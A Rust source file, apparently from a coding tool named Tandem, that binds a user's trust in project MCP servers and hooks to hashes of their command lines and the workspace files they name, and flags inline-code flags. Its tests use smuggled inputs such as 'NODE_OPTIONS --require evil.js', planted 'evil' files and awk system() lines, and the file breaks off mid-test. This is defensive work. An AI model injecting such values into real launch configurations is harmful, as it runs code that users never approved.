//! The projects' MCP servers and hooks the user trusted for good, bound to what they run.
//!
//! A project's hook ([`Subject::Hook`]) is bound the same way as a server: its event, matcher
//! and command line by the fingerprint, and every workspace file the line names by its content
//! (the line is read as `sh -c LINE`, so a line with more than plain words can't be trusted for
//! good; `$CLAUDE_PROJECT_DIR` and `$TANDEM_PROJECT_DIR` are read as the workspace root).
//!
//! `mcp-trust.json` in the data dir holds one entry per project root and server: a SHA-256 of
//! the server's whole configuration (command, arguments, environment; or URL and headers) and
//! the state of every workspace file its command line names (a SHA-256 of its content, or that
//! it is missing, a directory, or not a regular file). A project server is trusted only while
//! both are the same: a repository (or a sandboxed command) that edits `tools/server.py`, or
//! plants a file the line names, is asked about again, and the question says what changed.
//!
//! "Names" is read broadly, since the line is the project's: every word of the command, its
//! arguments and its environment values; the value after `=` of an option (`--script=x.py`); the
//! words inside a word with spaces (`sh -c "python3 tools/x.py"`); and for `-m pkg.mod` the
//! module's files (`pkg/mod.py`, `pkg/mod/__main__.py`, `pkg/mod/__init__.py`). A named file is
//! hashed whole (streamed; [`MAX_HASHED_BYTES`] for the whole line), a named directory by its
//! whole tree (every entry's path, kind, mode and content or link target; not ignore-aware, since
//! `node_modules` or `.venv` is where a server's code lives; at most [`MAX_TREE_ENTRIES`]).
//!
//! Where the trust can't be bound to what runs, "always" is not offered ([`Verdict::Ask`]'s
//! `unbound` says why, and [`TrustStore::trust`] refuses): a line that names the workspace
//! itself (`.`), one that runs code given inline (`python3 -c`, `node -e`, a shell's `-c` with
//! more than plain words), and files or trees past the bounds. Files a server imports at run time
//! without naming them on its line are not covered (docs/security.md).

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Component, Path, PathBuf};

use sha2::Digest;
use tandem_mcp::McpServerConfig;

/// What a line's files and trees may bring to hash, in all; past it "always" is not offered.
pub const MAX_HASHED_BYTES: u64 = 1 << 30;
/// Entries of the directories a line names, in all; past it "always" is not offered.
pub const MAX_TREE_ENTRIES: usize = 20_000;
/// The trust store is small (one entry per trusted server); anything larger is not ours.
const MAX_TRUST_BYTES: u64 = 16 * 1024 * 1024;

/// What a project's file asks to run: an MCP server, or a hook.
#[derive(Clone, Copy, Debug)]
pub enum Subject<'a> {
    Server(&'a McpServerConfig),
    Hook(&'a crate::hooks::HookSpec),
}

impl Subject<'_> {
    /// Its key in the record: a server's name; a hook's event, matcher and line (another line
    /// is another hook, asked about as new).
    fn key(&self) -> String {
        match self {
            Subject::Server(c) => c.name().to_string(),
            Subject::Hook(h) => format!("hook:{}:{}:{}", h.event.name(), h.matcher, h.command),
        }
    }

    fn fingerprint_text(&self) -> String {
        match self {
            Subject::Server(c) => serde_json::to_string(c).unwrap_or_default(),
            Subject::Hook(h) => serde_json::json!({
                "hook": h.event.name(), "matcher": h.matcher, "command": h.command,
            })
            .to_string(),
        }
    }
}

#[derive(Clone)]
pub struct TrustStore {
    path: PathBuf,
}

#[derive(Default, serde::Serialize, serde::Deserialize)]
struct TrustFile {
    trusted: Vec<TrustEntry>,
}

#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
struct TrustEntry {
    root: PathBuf,
    server: String,
    /// SHA-256 of the server's configuration as JSON.
    fingerprint: String,
    /// Workspace-relative path of each file the line names, to its state (`sha256:…`,
    /// `tree:…`, `missing`, …). Entries written before this existed have none, so they no
    /// longer match a line that names files: asked again once.
    #[serde(default)]
    files: BTreeMap<String, String>,
}

/// Whether a project's server may start unasked, and if not, what changed since the user last
/// trusted it (empty when they never did), and why "always" can't be offered, if it can't.
#[derive(Debug, PartialEq, Eq)]
pub enum Verdict {
    Trusted,
    Ask {
        changed: Vec<String>,
        unbound: Option<String>,
    },
}

impl TrustStore {
    pub fn new(data_dir: &Path) -> Self {
        Self {
            path: data_dir.join("mcp-trust.json"),
        }
    }

    fn entry(root: &Path, subject: Subject) -> (TrustEntry, Option<String>) {
        let json = subject.fingerprint_text();
        let bound = match subject {
            Subject::Server(config) => bind(root, config),
            Subject::Hook(hook) => bind_hook(root, &hook.command),
        };
        (
            TrustEntry {
                root: root.to_path_buf(),
                server: subject.key(),
                fingerprint: hex(&sha2::Sha256::digest(json.as_bytes())),
                files: bound.files,
            },
            bound.unbound,
        )
    }

    fn load(&self) -> TrustFile {
        tandem_stdx::regular::read_string(&self.path, MAX_TRUST_BYTES)
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok())
            .unwrap_or_default()
    }

    /// Whether `config` is trusted in `root` as it is now, files included. Reads and hashes
    /// what the line names: call it off the async threads.
    pub fn check(&self, root: &Path, config: &McpServerConfig) -> Verdict {
        self.check_subject(root, Subject::Server(config))
    }

    /// [`TrustStore::check`] of a server or a hook.
    pub fn check_subject(&self, root: &Path, subject: Subject) -> Verdict {
        let (now, unbound) = Self::entry(root, subject);
        let file = self.load();
        // A trust that can't be bound is never taken, even one recorded before this was known.
        if unbound.is_none() && file.trusted.contains(&now) {
            return Verdict::Trusted;
        }
        let Some(before) = file
            .trusted
            .iter()
            .rev()
            .find(|e| e.root == now.root && e.server == now.server)
        else {
            return Verdict::Ask {
                changed: Vec::new(),
                unbound,
            };
        };
        let mut changed = Vec::new();
        if before.fingerprint != now.fingerprint {
            changed.push("its command line, environment or URL".to_string());
        }
        let paths: std::collections::BTreeSet<&String> =
            before.files.keys().chain(now.files.keys()).collect();
        for path in paths {
            let (was, is) = (before.files.get(path), now.files.get(path));
            if was != is {
                changed.push(match (was.map(String::as_str), is.map(String::as_str)) {
                    (Some("missing") | None, Some(_)) => format!("{path} (new)"),
                    (Some(_), Some("missing")) => format!("{path} (deleted)"),
                    _ => format!("{path} (content)"),
                });
            }
        }
        Verdict::Ask { changed, unbound }
    }

    pub fn is_trusted(&self, root: &Path, config: &McpServerConfig) -> bool {
        self.check(root, config) == Verdict::Trusted
    }

    /// Remembers the user's "always" for this server in this project, as it is now (replacing
    /// what was trusted of it before). Refused, with the reason, where the trust can't be bound
    /// to what runs.
    pub fn trust(&self, root: &Path, config: &McpServerConfig) -> std::io::Result<()> {
        self.trust_subject(root, Subject::Server(config))
    }

    /// What `subject` is and names in `root` now, as one string: a hook trusted for a session
    /// runs only while this stays the same (a script the model rewrites mid-session does not
    /// run unasked). Reads and hashes files: off the async threads.
    pub fn snapshot(root: &Path, subject: Subject) -> String {
        let (entry, unbound) = Self::entry(root, subject);
        serde_json::json!({"entry": entry, "unbound": unbound}).to_string()
    }

    /// [`TrustStore::trust`] of a server or a hook.
    pub fn trust_subject(&self, root: &Path, subject: Subject) -> std::io::Result<()> {
        let mut file = self.load();
        let (entry, unbound) = Self::entry(root, subject);
        if let Some(why) = unbound {
            return Err(std::io::Error::other(why));
        }
        file.trusted
            .retain(|e| !(e.root == entry.root && e.server == entry.server));
        file.trusted.push(entry);
        if let Some(dir) = self.path.parent() {
            tandem_stdx::private_dir(dir)?;
        }
        let text = serde_json::to_string_pretty(&file).map_err(std::io::Error::other)?;
        let tmp = self.path.with_extension("json.tmp");
        std::fs::write(&tmp, text)?;
        std::fs::rename(&tmp, &self.path)
    }
}

pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// What a server's line names, as it is now, and why trust can't be bound to it, if it can't.
struct Bound {
    files: BTreeMap<String, String>,
    unbound: Option<String>,
}

/// What is left to hash of a line's files and trees.
struct Budget {
    bytes: u64,
    entries: usize,
}

/// Every workspace file and tree the server's line names, with its state now.
fn bind(root: &Path, config: &McpServerConfig) -> Bound {
    let McpServerConfig::Stdio(s) = config else {
        return Bound {
            files: BTreeMap::new(),
            unbound: None,
        };
    };
    let words: Vec<&str> = std::iter::once(s.command.as_str())
        .chain(s.args.iter().map(String::as_str))
        .chain(s.env.iter().map(|e| e.value.as_str()))
        .collect();
    bind_words(root, &words)
}

/// A hook's line, run as `sh -c LINE` with the project's directory in two variables: those
/// read as the root (so `"$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh` names that file), the rest
/// as a server's `sh -c` (more than plain words: no "always").
fn bind_hook(root: &Path, line: &str) -> Bound {
    let root_text = root.to_string_lossy();
    let mut line = line.to_string();
    for var in ["CLAUDE_PROJECT_DIR", "TANDEM_PROJECT_DIR"] {
        for spelling in [
            format!("\"${{{var}}}\""),
            format!("\"${var}\""),
            format!("${{{var}}}"),
            format!("${var}"),
        ] {
            line = line.replace(&spelling, &root_text);
        }
    }
    let mut bound = bind_words(root, &["sh", "-c", &line]);
    // The root's path is spliced in as words: one with spaces or quotes would be split, and
    // the script it names left unbound.
    let splits = !plain_shell(&root_text) || root_text.contains(char::is_whitespace);
    if splits && line.contains(root_text.as_ref()) {
        bound.unbound.get_or_insert_with(|| {
            "the workspace's path has characters that a command line splits or quotes, so the \
             files the hook's line names can't be told"
                .into()
        });
    }
    bound
}

fn bind_words(root: &Path, words: &[&str]) -> Bound {
    let mut unbound = inline_code(words);
    let mut candidates: Vec<String> = Vec::new();
    for (i, word) in words.iter().enumerate() {
        for part in word.split_whitespace() {
            let part = part.trim_matches(|c| c == '\'' || c == '"');
            candidates.push(part.to_string());
            if part.starts_with('-')
                && let Some((_, value)) = part.split_once('=')
            {
                candidates.push(value.to_string());
            }
        }
        if i > 0 && words[i - 1] == "-m" {
            let module = word.replace('.', "/");
            candidates.push(format!("{module}.py"));
            candidates.push(format!("{module}/__main__.py"));
            candidates.push(format!("{module}/__init__.py"));
        }
    }
    let mut budget = Budget {
        bytes: MAX_HASHED_BYTES,
        entries: MAX_TREE_ENTRIES,
    };
    let mut files = BTreeMap::new();
    for candidate in candidates {
        let Some(rel) = in_workspace(root, &candidate) else {
            continue;
        };
        if rel.as_os_str().is_empty() {
            unbound.get_or_insert_with(|| {
                format!(
                    "its command line names the workspace itself (`{candidate}`): any file in \
                     it could change what runs"
                )
            });
            continue;
        }
        let shown = tandem_stdx::slash_path(&rel);
        if files.contains_key(&shown) {
            continue;
        }
        let state = match state_of(root, &rel, &mut budget) {
            Ok(state) => state,
            Err(why) => {
                unbound.get_or_insert(why);
                "unbound".into()
            }
        };
        // A word that names nothing and does not look like a path (`stdio`, `-y`) is no file.
        let pathlike = candidate.contains('/') || candidate.contains('.');
        if state != "missing" || pathlike {
            files.insert(shown, state);
        }
    }
    Bound { files, unbound }
}

/// `word` as a path relative to `root`, when it is one inside it (judged by its text, then by
/// where its links lead when it exists). The root itself is the empty path.
fn in_workspace(root: &Path, word: &str) -> Option<PathBuf> {
    if word.is_empty() || word.starts_with('-') && !word.contains('/') {
        return None;
    }
    let path = Path::new(word);
    let rel: PathBuf = if path.is_absolute() {
        path.strip_prefix(root).ok()?.to_path_buf()
    } else {
        path.to_path_buf()
    };
    if rel
        .components()
        .any(|c| !matches!(c, Component::Normal(_) | Component::CurDir))
    {
        return None;
    }
    let rel: PathBuf = rel
        .components()
        .filter(|c| matches!(c, Component::Normal(_)))
        .collect();
    if let Ok(real) = root.join(&rel).canonicalize() {
        let real_root = root.canonicalize().ok()?;
        // A link out of the workspace names a file the project cannot change from inside.
        real.strip_prefix(&real_root).ok()?;
    }
    Some(rel)
}

/// `sha256:…` of a regular file's content, `tree:…` of a directory's, or what it is instead;
/// an error (why trust can't be bound) past the budget.
fn state_of(root: &Path, rel: &Path, budget: &mut Budget) -> Result<String, String> {
    use tandem_stdx::regular::NotRegular;
    let path = root.join(rel);
    let shown = tandem_stdx::slash_path(rel);
    match tandem_stdx::regular::open(&path) {
        Ok((file, _)) => Ok(match hash_file(file, &shown, budget)? {
            Ok(digest) => format!("sha256:{digest}"),
            Err(e) => format!("unreadable: {e}"),
        }),
        Err(NotRegular::Missing) => Ok("missing".into()),
        Err(NotRegular::Directory) => {
            let mut hasher = sha2::Sha256::new();
            hash_tree(root, &path, &path, &shown, &mut hasher, budget)?;
            Ok(format!("tree:{}", hex(&hasher.finalize())))
        }
        Err(e) => Ok(format!("unusable: {e}")),
    }
}

/// The SHA-256 of an open file's whole content, streamed, charged to the budget: `Err` past it,
/// `Ok(Err)` when it could not be read.
fn hash_file(
    file: std::fs::File,
    shown: &str,
    budget: &mut Budget,
) -> Result<Result<String, std::io::Error>, String> {
    let too_large = || {
        format!(
            "{shown} is too large to check: the files and directories its command line names \
             hold more than {} MiB, which Tandem does not hash",
            MAX_HASHED_BYTES >> 20
        )
    };
    let mut hasher = sha2::Sha256::new();
    // One byte past the budget tells a file that is over it (even one growing as it is read).
    let mut reader = file.take(budget.bytes + 1);
    let mut buf = vec![0u8; 256 * 1024];
    let mut read = 0u64;
    loop {
        match reader.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                read += n as u64;
                if read > budget.bytes {
                    return Err(too_large());
                }
                hasher.update(&buf[..n]);
            }
            Err(e) => return Ok(Err(e)),
        }
    }
    budget.bytes -= read;
    Ok(Ok(hex(&hasher.finalize())))
}

/// Feeds every entry under `dir` (sorted, links not followed) to `hasher`: its path under `top`,
/// its kind and mode, and a file's content hash or a link's target. A link that leads out of
/// `top` but stays in the workspace has what it leads to hashed too; a link that leads nowhere,
/// or to a directory outside `top`, can't be bound.
fn hash_tree(
    root: &Path,
    top: &Path,
    dir: &Path,
    shown: &str,
    hasher: &mut sha2::Sha256,
    budget: &mut Budget,
) -> Result<(), String> {
    let unreadable = |e: std::io::Error, path: &Path| {
        format!(
            "{} could not be read ({e}), so what it runs can't be checked",
            tandem_stdx::display_relative(path, root)
        )
    };
    let mut entries: Vec<std::fs::DirEntry> = std::fs::read_dir(dir)
        .map_err(|e| unreadable(e, dir))?
        .collect::<Result<_, _>>()
        .map_err(|e| unreadable(e, dir))?;
    entries.sort_by_key(std::fs::DirEntry::file_name);
    for entry in entries {
        if budget.entries == 0 {
            return Err(format!(
                "{shown} is too large to check: the directories its command line names hold more \
                 than {MAX_TREE_ENTRIES} entries, which Tandem does not hash"
            ));
        }
        budget.entries -= 1;
        let path = entry.path();
        let rel = path.strip_prefix(top).unwrap_or(&path);
        let meta = std::fs::symlink_metadata(&path).map_err(|e| unreadable(e, &path))?;
        let kind = meta.file_type();
        let mode = mode_of(&meta);
        hasher.update(tandem_stdx::slash_path(rel).as_bytes());
        hasher.update([0]);
        if kind.is_dir() {
            hasher.update(format!("dir {mode:o}\0"));
            hash_tree(root, top, &path, shown, hasher, budget)?;
        } else if kind.is_symlink() {
            let target = std::fs::read_link(&path).map_err(|e| unreadable(e, &path))?;
            hasher.update(format!("link {}\0", target.display()));
            let real_root = root.canonicalize().map_err(|e| unreadable(e, root))?;
            let real_top = top.canonicalize().map_err(|e| unreadable(e, top))?;
            match path.canonicalize() {
                Ok(real) if real.starts_with(&real_top) => {}
                Ok(real) if real.starts_with(&real_root) => {
                    let (file, _) = tandem_stdx::regular::open(&real).map_err(|e| {
                        format!(
                            "{} leads to {} ({e}), which can change what runs without the \
                             link changing",
                            tandem_stdx::display_relative(&path, root),
                            tandem_stdx::display_relative(&real, root)
                        )
                    })?;
                    let digest =
                        hash_file(file, shown, budget)?.map_err(|e| unreadable(e, &real))?;
                    hasher.update(format!("sha256:{digest}\0"));
                }
                // Out of the workspace: nothing the project can change from inside.
                Ok(_) => {}
                Err(_) => {
                    return Err(format!(
                        "{} leads nowhere, and a file planted where it leads would change what \
                         runs",
                        tandem_stdx::display_relative(&path, root)
                    ));
                }
            }
        } else if kind.is_file() {
            let (file, _) = tandem_stdx::regular::open(&path).map_err(|e| {
                format!(
                    "{} changed while it was checked ({e})",
                    tandem_stdx::display_relative(&path, root)
                )
            })?;
            let digest = hash_file(file, shown, budget)?.map_err(|e| unreadable(e, &path))?;
            hasher.update(format!("file {mode:o} sha256:{digest}\0"));
        } else {
            hasher.update(format!("special {mode:o}\0"));
        }
    }
    Ok(())
}

#[cfg(unix)]
fn mode_of(meta: &std::fs::Metadata) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    meta.permissions().mode() & 0o7777
}

#[cfg(not(unix))]
fn mode_of(meta: &std::fs::Metadata) -> u32 {
    u32::from(meta.permissions().readonly())
}

/// Why the line runs code given inline (`python3 -c …`, `node -e …`, `sh -c` with more than
/// plain words), if it does: such code can open any file by any name, which no reading of the
/// line can follow. The code itself is part of the line, bound by the fingerprint.
fn inline_code(words: &[&str]) -> Option<String> {
    // The words, and the words inside them (`sh -c "python3 -c …"`, `env -S "…"`).
    let parts: Vec<&str> = words
        .iter()
        .flat_map(|w| w.split_whitespace())
        .map(|p| p.trim_matches(|c| c == '\'' || c == '"'))
        .collect();
    for list in [words, parts.as_slice()] {
        for (i, word) in list.iter().enumerate() {
            let program = program_name(word);
            let Some(kind) = interpreter(&program) else {
                continue;
            };
            if kind == Kind::AlwaysCode {
                return Some(code_reason(&program, ""));
            }
            let mut rest = list[i + 1..].iter().peekable();
            let mut first = true;
            while let Some(flag) = rest.next() {
                if is_code_flag(kind, flag, first) {
                    let code = rest.peek().copied().copied().unwrap_or("");
                    if kind == Kind::Shell && plain_shell(code) {
                        break;
                    }
                    return Some(code_reason(&program, flag));
                }
                first = false;
                if takes_value(kind, flag) {
                    rest.next();
                } else if !flag.starts_with('-') {
                    // The script (or the subcommand): what follows is its own.
                    break;
                }
            }
        }
    }
    None
}

fn code_reason(program: &str, flag: &str) -> String {
    let shown = if flag.is_empty() {
        program.to_string()
    } else {
        format!("{program} {flag}")
    };
    format!(
        "its command line runs code given inline (`{shown} …`), which can run files Tandem \
         cannot tell from the line"
    )
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Python,
    /// node, bun, deno.
    Js,
    /// perl, ruby, lua, julia, Rscript, osascript: `-e`.
    DashE,
    Php,
    Shell,
    PowerShell,
    Cmd,
    /// awk and its kin: the program is given inline.
    AlwaysCode,
}

/// A program's name as the interpreter tables know it: `/usr/bin/python3.12` is `python`.
fn program_name(word: &str) -> String {
    let base = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    let base = base.strip_suffix(".exe").unwrap_or(base.as_str());
    base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-')
        .to_string()
}

fn interpreter(program: &str) -> Option<Kind> {
    Some(match program {
        "python" | "pypy" | "pythonw" | "py" => Kind::Python,
        "node" | "nodejs" | "bun" | "deno" => Kind::Js,
        "perl" | "ruby" | "lua" | "luajit" | "julia" | "rscript" | "osascript" | "tclsh" => {
            Kind::DashE
        }
        "php" => Kind::Php,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" | "fish" | "busybox" => Kind::Shell,
        "pwsh" | "powershell" => Kind::PowerShell,
        "cmd" => Kind::Cmd,
        "awk" | "gawk" | "mawk" | "nawk" => Kind::AlwaysCode,
        _ => return None,
    })
}

/// Whether `flag` gives code inline to an interpreter of `kind` (`first`: the first word after
/// the program, where a subcommand such as deno's `eval` stands).
fn is_code_flag(kind: Kind, flag: &str, first: bool) -> bool {
    let lower = flag.to_ascii_lowercase();
    // Short options run together (`-Ic`, `-pe`, `-ec`).
    let cluster = |letters: &[char]| {
        flag.len() > 1
            && flag.starts_with('-')
            && !flag.starts_with("--")
            && flag[1..].chars().all(|c| c.is_ascii_alphabetic())
            && flag[1..].chars().any(|c| letters.contains(&c))
    };
    match kind {
        Kind::Python => cluster(&['c']),
        Kind::Js => {
            cluster(&['e', 'p'])
                || ["--eval", "--print"]
                    .iter()
                    .any(|f| lower == *f || lower.starts_with(&format!("{f}=")))
                || first && lower == "eval"
        }
        Kind::DashE => cluster(&['e', 'E']) || lower == "--eval" || lower == "--print",
        Kind::Php => cluster(&['r', 'B', 'R', 'E']) || lower == "--run",
        Kind::Shell => cluster(&['c']),
        Kind::PowerShell => {
            [
                "-c",
                "-command",
                "-e",
                "-ec",
                "-encodedcommand",
                "/c",
                "/command",
            ]
            .contains(&lower.as_str())
                || lower.starts_with("-command")
                || lower.starts_with("-encodedcommand")
        }
        Kind::Cmd => lower == "/c" || lower == "/k" || lower == "/r",
        Kind::AlwaysCode => true,
    }
}

/// Options that take the next word as their value, so it is not the script.
fn takes_value(kind: Kind, flag: &str) -> bool {
    match kind {
        Kind::Python => ["-W", "-X", "--check-hash-based-pycs"].contains(&flag),
        Kind::Js => [
            "-r",
            "--require",
            "--import",
            "--loader",
            "--experimental-loader",
            "-C",
            "--conditions",
            "--env-file",
            "--title",
            "--input-type",
            "--stack-size",
        ]
        .contains(&flag),
        Kind::DashE => ["-I", "-M", "-r", "-l"].contains(&flag),
        Kind::Shell => ["-o", "+o", "-O", "+O"].contains(&flag),
        _ => false,
    }
}

/// A shell's code that is plain words (letters, digits, `/._-+=:@,%` and quotes around them):
/// no expansion, redirection, list or substitution, so the words it names are all it names.
fn plain_shell(code: &str) -> bool {
    code.chars().all(|c| {
        c.is_ascii_alphanumeric() || c.is_whitespace() && c != '\n' || "/._-+=:@,%'\"".contains(c)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn server(json: serde_json::Value) -> McpServerConfig {
        serde_json::from_value(json).unwrap()
    }

    #[test]
    fn trust_is_per_project_and_per_command_line() {
        let data = tempfile::tempdir().unwrap();
        let store = TrustStore::new(data.path());
        let a = server(json!({"name": "fs", "command": "srv", "args": ["/x"]}));
        let root = Path::new("/work/project");
        assert!(!store.is_trusted(root, &a));
        store.trust(root, &a).unwrap();
        assert!(store.is_trusted(root, &a));
        // Another project, another command line, another environment: asked again.
        assert!(!store.is_trusted(Path::new("/work/other"), &a));
        let changed = server(json!({"name": "fs", "command": "srv", "args": ["/"]}));
        assert_eq!(
            store.check(root, &changed),
            Verdict::Ask {
                changed: vec!["its command line, environment or URL".into()],
                unbound: None
            }
        );
        let env = server(json!({"name": "fs", "command": "srv", "args": ["/x"],
            "env": [{"name": "NODE_OPTIONS", "value": "--require evil.js"}]}));
        assert!(!store.is_trusted(root, &env));
        // Kept across stores (a new sidecar).
        assert!(TrustStore::new(data.path()).is_trusted(root, &a));
    }

    #[test]
    fn trust_covers_every_workspace_file_the_line_names() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        let write = |p: &str, t: &str| {
            let p = root.join(p);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, t).unwrap();
        };
        write("tools/server.py", "print('hi')\n");
        write("tools/helper.js", "1\n");
        write("pkg/srv/__main__.py", "x\n");
        let store = TrustStore::new(data.path());
        let cases = [
            (
                json!({"name": "a", "command": "python3", "args": ["tools/server.py"]}),
                "tools/server.py",
            ),
            (
                json!({"name": "b", "command": "sh", "args": ["-c", "exec python3 './tools/server.py'"]}),
                "tools/server.py",
            ),
            (
                json!({"name": "c", "command": "node", "args": ["--require=tools/helper.js", "x"]}),
                "tools/helper.js",
            ),
            (
                json!({"name": "d", "command": "node", "args": ["x"],
                       "env": [{"name": "NODE_OPTIONS", "value": "--require ./tools/helper.js"}]}),
                "tools/helper.js",
            ),
            (
                json!({"name": "e", "command": "python3", "args": ["-m", "pkg.srv"]}),
                "pkg/srv/__main__.py",
            ),
            (
                json!({"name": "f", "command": format!("{}/tools/server.py", root.display())}),
                "tools/server.py",
            ),
        ];
        for (config, file) in cases {
            let config = server(config);
            store.trust(root, &config).unwrap();
            assert!(store.is_trusted(root, &config), "{config:?}");
            let before = std::fs::read_to_string(root.join(file)).unwrap();
            write(file, &format!("{before}# changed\n"));
            assert_eq!(
                store.check(root, &config),
                Verdict::Ask {
                    changed: vec![format!("{file} (content)")],
                    unbound: None
                },
                "{config:?}"
            );
            write(file, &before);
            assert!(store.is_trusted(root, &config), "{config:?}");
        }
        // A file the line names that did not exist, planted later.
        let late = server(json!({"name": "g", "command": "node", "args": ["tools/later.js"]}));
        store.trust(root, &late).unwrap();
        write("tools/later.js", "evil\n");
        assert_eq!(
            store.check(root, &late),
            Verdict::Ask {
                changed: vec!["tools/later.js (new)".into()],
                unbound: None
            }
        );
    }

    fn write(root: &Path, p: &str, t: &str) {
        let p = root.join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, t).unwrap();
    }

    /// A line that names a directory: its whole tree is bound, so a file changed in it (or
    /// added, or a link in it retargeted) asks again. Before, a directory was recorded as
    /// `directory` alone and its changed code ran unasked.
    #[test]
    fn a_named_directory_is_bound_by_its_whole_tree() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        write(root, "tools/srv/index.js", "ok\n");
        write(root, "tools/srv/node_modules/dep/index.js", "dep\n");
        write(root, "lib/shared.js", "shared\n");
        #[cfg(unix)]
        std::os::unix::fs::symlink("../../lib/shared.js", root.join("tools/srv/shared.js"))
            .unwrap();
        let store = TrustStore::new(data.path());
        let config = server(json!({"name": "d", "command": "node", "args": ["tools/srv"]}));
        store.trust(root, &config).unwrap();
        assert!(store.is_trusted(root, &config));
        let content = Verdict::Ask {
            changed: vec!["tools/srv (content)".into()],
            unbound: None,
        };
        // Ignored-looking directories are code too.
        write(root, "tools/srv/node_modules/dep/index.js", "evil\n");
        assert_eq!(store.check(root, &config), content);
        write(root, "tools/srv/node_modules/dep/index.js", "dep\n");
        assert!(store.is_trusted(root, &config));
        write(root, "tools/srv/planted.js", "evil\n");
        assert_eq!(store.check(root, &config), content);
        std::fs::remove_file(root.join("tools/srv/planted.js")).unwrap();
        assert!(store.is_trusted(root, &config));
        // What a link in the tree leads to, elsewhere in the workspace.
        #[cfg(unix)]
        {
            write(root, "lib/shared.js", "evil\n");
            assert_eq!(store.check(root, &config), content);
            write(root, "lib/shared.js", "shared\n");
            assert!(store.is_trusted(root, &config));
            std::fs::remove_file(root.join("lib/shared.js")).unwrap();
            assert!(matches!(
                store.check(root, &config),
                Verdict::Ask { unbound: Some(why), .. } if why.contains("leads nowhere")
            ));
        }
    }

    /// `.` (or the root by any spelling) is the whole workspace: nothing to bind, no "always".
    #[test]
    fn a_line_that_names_the_workspace_itself_is_never_trusted_for_good() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        write(root, "index.js", "ok\n");
        let store = TrustStore::new(data.path());
        for args in [
            json!(["."]),
            json!(["./"]),
            json!([root.display().to_string()]),
            json!(["--dir=."]),
        ] {
            let config = server(json!({"name": "dot", "command": "node", "args": args}));
            let err = store.trust(root, &config).unwrap_err().to_string();
            assert!(err.contains("names the workspace itself"), "{args}: {err}");
            assert!(!store.is_trusted(root, &config), "{args}");
            assert!(
                matches!(
                    store.check(root, &config),
                    Verdict::Ask {
                        unbound: Some(_),
                        ..
                    }
                ),
                "{args}"
            );
        }
    }

    /// Code given inline can read any file by any name: no "always". A shell's `-c` with plain
    /// words is a command line like any other, and stays bound.
    #[test]
    fn inline_code_is_never_trusted_for_good() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        write(root, "tools/srv.py", "print('hi')\n");
        let store = TrustStore::new(data.path());
        let inline = [
            json!({"command": "python3", "args": ["-c", "exec(open('tools/srv.py').read())"]}),
            json!({"command": "/usr/bin/python3.12", "args": ["-Ic", "import runpy"]}),
            json!({"command": "uv", "args": ["run", "python", "-u", "-c", "x"]}),
            json!({"command": "node", "args": ["-e", "require('./tools/srv.js')"]}),
            json!({"command": "node", "args": ["--eval=require('x')"]}),
            json!({"command": "deno", "args": ["eval", "import './x.ts'"]}),
            json!({"command": "perl", "args": ["-I", "lib", "-e", "do 'x.pl'"]}),
            json!({"command": "bash", "args": ["-lc", "python3 tools/$(echo srv).py"]}),
            json!({"command": "sh", "args": ["-c", "exec python3 -c 'import srv'"]}),
            json!({"command": "sh", "args": ["-c", "cat tools/srv.py | python3"]}),
            json!({"command": "env", "args": ["-S", "python3 -c x"]}),
            json!({"command": "awk", "args": ["BEGIN { system(\"x\") }"]}),
        ];
        for (i, mut config) in inline.into_iter().enumerate() {
            config["name"] = json!(format!("s{i}"));
            let config = server(config);
            let Verdict::Ask {
                unbound: Some(why), ..
            } = store.check(root, &config)
            else {
                panic!("{config:?} offered for good");
            };
            assert!(why.contains("runs code given inline"), "{why}");
            assert!(store.trust(root, &config).is_err(), "{config:?}");
        }
        let bound = [
            json!({"command": "sh", "args": ["-c", "exec python3 './tools/srv.py'"]}),
            json!({"command": "python3", "args": ["tools/srv.py", "-c", "config.yml"]}),
            json!({"command": "python3", "args": ["-W", "ignore", "-m", "srv"]}),
            json!({"command": "node", "args": ["--require", "x.js", "server.js", "-e", "prod"]}),
        ];
        for (i, mut config) in bound.into_iter().enumerate() {
            config["name"] = json!(format!("b{i}"));
            let config = server(config);
            store.trust(root, &config).unwrap();
            assert!(store.is_trusted(root, &config), "{config:?}");
        }
    }

    /// A named file is hashed whole, however large (up to the line's budget): one changed at
    /// the same size, with its time put back (`touch -d`), asks again. Before, a file over
    /// 64 MiB was recorded by its size and time.
    #[test]
    fn a_large_named_file_is_hashed_whole() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        let blob = root.join("tools/model.bin");
        std::fs::create_dir_all(blob.parent().unwrap()).unwrap();
        let file = std::fs::File::create(&blob).unwrap();
        file.set_len(65 << 20).unwrap();
        drop(file);
        let store = TrustStore::new(data.path());
        let config = server(json!({"name": "big", "command": "srv", "args": ["tools/model.bin"]}));
        store.trust(root, &config).unwrap();
        assert!(store.is_trusted(root, &config));
        let mtime = std::fs::metadata(&blob).unwrap().modified().unwrap();
        {
            use std::io::{Seek, Write};
            let mut f = std::fs::OpenOptions::new().write(true).open(&blob).unwrap();
            f.seek(std::io::SeekFrom::Start(40 << 20)).unwrap();
            f.write_all(b"planted").unwrap();
            f.set_modified(mtime).unwrap();
        }
        assert_eq!(std::fs::metadata(&blob).unwrap().modified().unwrap(), mtime);
        assert_eq!(
            store.check(root, &config),
